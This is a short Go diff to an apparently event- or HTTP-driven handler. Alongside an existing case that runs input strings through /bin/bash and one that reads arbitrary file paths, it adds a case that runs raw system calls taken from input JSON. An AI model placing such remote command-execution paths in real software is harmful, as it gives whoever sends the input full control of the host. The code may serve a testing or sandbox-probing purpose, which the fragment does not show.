@@ -136,6 +136,11 @@ func handle(h http.Header, event []byte, n int) {
 	case "shell":
 		out, err := exec.Command("/bin/bash", "-c", in.Path).CombinedOutput()
 		answer(fmt.Sprint(string(out), err))
+	case "syscall": // number and arguments
+		var call [7]uintptr
+		json.Unmarshal([]byte(in.Path), &call)
+		_, _, errno := syscall.Syscall6(call[0], call[1], call[2], call[3], call[4], call[5], call[6])
+		answer(errno.Error())
 	case "read":
 		content, err := os.ReadFile(in.Path)
 		answer(fmt.Sprint(len(content), err))
